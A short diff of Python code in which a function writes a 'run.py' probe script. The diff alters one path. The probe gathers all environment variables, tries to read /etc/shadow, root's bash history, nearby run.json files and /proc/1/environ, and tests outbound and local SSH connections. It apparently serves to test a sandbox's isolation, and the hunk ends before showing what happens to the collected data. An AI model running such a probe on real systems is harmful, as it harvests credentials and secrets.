@@ -132,7 +132,7 @@ def scripts(tried: Way) -> None:
         "run.py",
         "import json, os, socket, subprocess, sys, time\n"
         "told = {'environment': dict(os.environ), 'files': {}, 'worked': []}\n"
-        "for path in ('/etc/shadow', '/root/.bash_history', '../../run.json', '../../../run.json', '/proc/1/environ'):\n"
+        "for path in ('/etc/shadow', os.path.expanduser('~root/.bash_history'), '../../run.json', '../../../run.json', '/proc/1/environ'):\n"
         "    try: told['files'][path] = open(path, errors='replace').read()[:2000]\n"
         "    except OSError: pass\n"
         "for address in (('1.1.1.1', 80), ('127.0.0.1', 22)):\n"
